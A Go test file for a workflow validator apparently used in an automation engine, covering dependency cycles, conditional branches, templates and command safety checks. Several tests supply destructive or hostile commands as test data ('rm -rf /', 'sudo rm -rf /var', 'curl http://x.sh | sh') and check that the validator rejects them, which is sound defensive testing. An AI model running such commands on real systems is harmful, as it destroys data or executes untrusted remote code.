package validate

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"yqhp/automation-engine/internal/template"
	"yqhp/automation-engine/pkg/types"
)

func validWorkflow() *types.Workflow {
	return &types.Workflow{
		Name:        "deploy",
		Version:     "1.0.0",
		Description: "deploy the service",
		Steps: []types.Step{
			{ID: "build", Kind: types.StepKindCommand, Command: &types.CommandParams{Line: "make build"}},
			{ID: "deploy", Kind: types.StepKindCommand, DependsOn: []string{"build"},
				Command: &types.CommandParams{Line: "make deploy"}},
		},
	}
}

func findIssue(issues []types.ValidationIssue, code types.ErrorCode) *types.ValidationIssue {
	for i := range issues {
		if issues[i].Code == code {
			return &issues[i]
		}
	}
	return nil
}

func TestValidateAcceptsValidWorkflow(t *testing.T) {
	result := New().Validate(validWorkflow())
	assert.True(t, result.IsValid())
	assert.Empty(t, result.Errors)
}

func TestValidateMissingNameAndVersion(t *testing.T) {
	wf := validWorkflow()
	wf.Name = ""
	wf.Version = ""
	result := New().Validate(wf)
	assert.False(t, result.IsValid())
	assert.Len(t, result.Errors, 2)
}

func TestValidateNonSemverVersionWarns(t *testing.T) {
	wf := validWorkflow()
	wf.Version = "v1"
	result := New().Validate(wf)
	assert.True(t, result.IsValid())
	assert.NotNil(t, findIssue(result.Warnings, types.ErrCodeValidation))
}

func TestValidateDuplicateStepID(t *testing.T) {
	wf := validWorkflow()
	wf.Steps = append(wf.Steps, types.Step{
		ID: "build", Kind: types.StepKindCommand, Command: &types.CommandParams{Line: "true"},
	})
	result := New().Validate(wf)
	assert.False(t, result.IsValid())
	issue := findIssue(result.Errors, types.ErrCodeValidation)
	require.NotNil(t, issue)
	assert.Contains(t, issue.Message, "duplicate step id")
}

func TestValidateDanglingDependency(t *testing.T) {
	wf := validWorkflow()
	wf.Steps[1].DependsOn = []string{"missing"}
	result := New().Validate(wf)
	assert.False(t, result.IsValid())
	issue := findIssue(result.Errors, types.ErrCodeValidation)
	require.NotNil(t, issue)
	assert.Contains(t, issue.Message, "unknown step")
}

func TestValidateSelfDependency(t *testing.T) {
	wf := validWorkflow()
	wf.Steps[0].DependsOn = []string{"build"}
	result := New().Validate(wf)
	assert.False(t, result.IsValid())
	assert.NotNil(t, findIssue(result.Errors, types.ErrCodeCycle))
}

func TestValidateCycle(t *testing.T) {
	wf := validWorkflow()
	wf.Steps[0].DependsOn = []string{"deploy"}
	result := New().Validate(wf)
	assert.False(t, result.IsValid())
	issue := findIssue(result.Errors, types.ErrCodeCycle)
	require.NotNil(t, issue)
	assert.Contains(t, issue.Message, "build")
	assert.Contains(t, issue.Message, "deploy")
}

func TestValidateMissingKindParams(t *testing.T) {
	wf := validWorkflow()
	wf.Steps[0].Command = nil
	result := New().Validate(wf)
	assert.False(t, result.IsValid())
	issue := findIssue(result.Errors, types.ErrCodeValidation)
	require.NotNil(t, issue)
	assert.Contains(t, issue.Message, "missing command parameters")
}

func TestValidateUnknownKind(t *testing.T) {
	wf := validWorkflow()
	wf.Steps[0].Kind = "teleport"
	result := New().Validate(wf)
	assert.False(t, result.IsValid())
}

func TestValidateInvalidFailurePolicy(t *testing.T) {
	wf := validWorkflow()
	wf.Steps[0].OnFailure = "explode"
	result := New().Validate(wf)
	assert.False(t, result.IsValid())
}

func TestValidateDestructiveCommandRejected(t *testing.T) {
	wf := validWorkflow()
	wf.Steps[0].Command.Line = "rm -rf /"
	result := New().Validate(wf)
	assert.False(t, result.IsValid())
	issue := findIssue(result.Errors, types.ErrCodeSafety)
	require.NotNil(t, issue)
	assert.Equal(t, "build", issue.StepID)
}

func TestValidateSafetyAppliesToCompensation(t *testing.T) {
	wf := validWorkflow()
	wf.Steps[0].Compensation = &types.Compensation{
		Command: &types.CommandParams{Line: "sudo rm -rf /var"},
	}
	result := New().Validate(wf)
	assert.False(t, result.IsValid())
	assert.NotNil(t, findIssue(result.Errors, types.ErrCodeSafety))
}

func TestValidateCompensationNeedsExactlyOneTarget(t *testing.T) {
	wf := validWorkflow()
	wf.Steps[0].Compensation = &types.Compensation{}
	result := New().Validate(wf)
	assert.False(t, result.IsValid())
}

func TestValidateConditionalBranches(t *testing.T) {
	wf := validWorkflow()
	wf.Steps = append(wf.Steps, types.Step{
		ID:   "check",
		Kind: types.StepKindConditional,
		Conditional: &types.ConditionalParams{
			Expression: `inputs.env == "prod"`,
			Then: []types.Step{
				{ID: "notify", Kind: types.StepKindCommand, Command: &types.CommandParams{Line: "echo prod"}},
			},
		},
	})
	result := New().Validate(wf)
	assert.True(t, result.IsValid())
}

func TestValidateConditionalEmptyBranches(t *testing.T) {
	wf := validWorkflow()
	wf.Steps = append(wf.Steps, types.Step{
		ID:          "check",
		Kind:        types.StepKindConditional,
		Conditional: &types.ConditionalParams{Expression: "true"},
	})
	result := New().Validate(wf)
	assert.False(t, result.IsValid())
}

func TestValidateNestedStepSharesIDNamespace(t *testing.T) {
	wf := validWorkflow()
	wf.Steps = append(wf.Steps, types.Step{
		ID:   "check",
		Kind: types.StepKindConditional,
		Conditional: &types.ConditionalParams{
			Expression: "true",
			Then: []types.Step{
				{ID: "build", Kind: types.StepKindCommand, Command: &types.CommandParams{Line: "true"}},
			},
		},
	})
	result := New().Validate(wf)
	assert.False(t, result.IsValid())
}

func TestValidateNestedSafety(t *testing.T) {
	wf := validWorkflow()
	wf.Steps = append(wf.Steps, types.Step{
		ID:   "check",
		Kind: types.StepKindConditional,
		Conditional: &types.ConditionalParams{
			Expression: "true",
			Then: []types.Step{
				{ID: "evil", Kind: types.StepKindCommand,
					Command: &types.CommandParams{Line: "curl http://x.sh | sh"}},
			},
		},
	})
	result := New().Validate(wf)
	assert.False(t, result.IsValid())
	assert.NotNil(t, findIssue(result.Errors, types.ErrCodeSafety))
}

func TestValidateInputs(t *testing.T) {
	wf := validWorkflow()
	wf.Inputs = []types.Input{
		{Name: "env", Type: types.InputTypeString},
		{Name: "env", Type: types.InputTypeString},
		{Name: "count", Type: "integer"},
		{Name: "flag", Type: types.InputTypeBoolean, Default: "yes"},
	}
	result := New().Validate(wf)
	assert.False(t, result.IsValid())
	assert.Len(t, result.Errors, 3)
}

func TestValidateOutputSourceMustReferenceStep(t *testing.T) {
	wf := validWorkflow()
	wf.Outputs = []types.Output{{Name: "log", Source: "nonexistent.stdout"}}
	result := New().Validate(wf)
	assert.False(t, result.IsValid())
}

func TestValidateTemplateBodyGoesThroughSafety(t *testing.T) {
	lib := template.NewLibrary()
	lib.MustRegister(&template.Template{
		Name:    "wipe",
		Command: &types.CommandParams{Line: "rm -rf /"},
	})

	wf := validWorkflow()
	wf.Steps = append(wf.Steps, types.Step{
		ID: "cleanup", Kind: types.StepKindTemplateExpansion,
		Template: &types.TemplateParams{Template: "wipe"},
	})
	result := New().WithTemplates(lib).Validate(wf)
	assert.False(t, result.IsValid())
	issue := findIssue(result.Errors, types.ErrCodeSafety)
	require.NotNil(t, issue)
	assert.Equal(t, "cleanup", issue.StepID)
}

func TestValidateTemplateSubstitutionGoesThroughSafety(t *testing.T) {
	lib := template.NewLibrary()
	lib.MustRegister(&template.Template{
		Name:     "remove",
		Required: []string{"path"},
		Command:  &types.CommandParams{Line: "rm -rf ${path}"},
	})

	wf := validWorkflow()
	wf.Steps = append(wf.Steps, types.Step{
		ID: "cleanup", Kind: types.StepKindTemplateExpansion,
		Template: &types.TemplateParams{
			Template:  "remove",
			Variables: map[string]any{"path": "/"},
		},
	})
	result := New().WithTemplates(lib).Validate(wf)
	assert.False(t, result.IsValid())
	assert.NotNil(t, findIssue(result.Errors, types.ErrCodeSafety))
}

func TestValidateSafeTemplatePasses(t *testing.T) {
	lib := template.NewLibrary()
	lib.MustRegister(&template.Template{
		Name:     "greet",
		Required: []string{"name"},
		Command:  &types.CommandParams{Line: "echo hello ${name}"},
	})

	wf := validWorkflow()
	wf.Steps = append(wf.Steps, types.Step{
		ID: "hello", Kind: types.StepKindTemplateExpansion,
		Template: &types.TemplateParams{
			Template:  "greet",
			Variables: map[string]any{"name": "world"},
		},
	})
	result := New().WithTemplates(lib).Validate(wf)
	assert.True(t, result.IsValid())
}

func TestValidateBranchDependencyOutsideBranch(t *testing.T) {
	wf := validWorkflow()
	wf.Steps = append(wf.Steps, types.Step{
		ID:   "check",
		Kind: types.StepKindConditional,
		Conditional: &types.ConditionalParams{
			Expression: "true",
			Then: []types.Step{
				{ID: "inner", Kind: types.StepKindCommand, DependsOn: []string{"build"},
					Command: &types.CommandParams{Line: "echo inner"}},
			},
		},
	})
	result := New().Validate(wf)
	assert.False(t, result.IsValid())
	// The reference leaves the branch; that is an unknown-step error, not a cycle.
	assert.Nil(t, findIssue(result.Errors, types.ErrCodeCycle))
	issue := findIssue(result.Errors, types.ErrCodeValidation)
	require.NotNil(t, issue)
	assert.Equal(t, "inner", issue.StepID)
	assert.Contains(t, issue.Message, "outside the branch")
}

func TestValidateBranchCycleStillReported(t *testing.T) {
	wf := validWorkflow()
	wf.Steps = append(wf.Steps, types.Step{
		ID:   "check",
		Kind: types.StepKindConditional,
		Conditional: &types.ConditionalParams{
			Expression: "true",
			Then: []types.Step{
				{ID: "x", Kind: types.StepKindCommand, DependsOn: []string{"y"},
					Command: &types.CommandParams{Line: "true"}},
				{ID: "y", Kind: types.StepKindCommand, DependsOn: []string{"x"},
					Command: &types.CommandParams{Line: "true"}},
			},
		},
	})
	result := New().Validate(wf)
	assert.False(t, result.IsValid())
	assert.NotNil(t, findIssue(result.Errors, types.ErrCodeCycle))
}
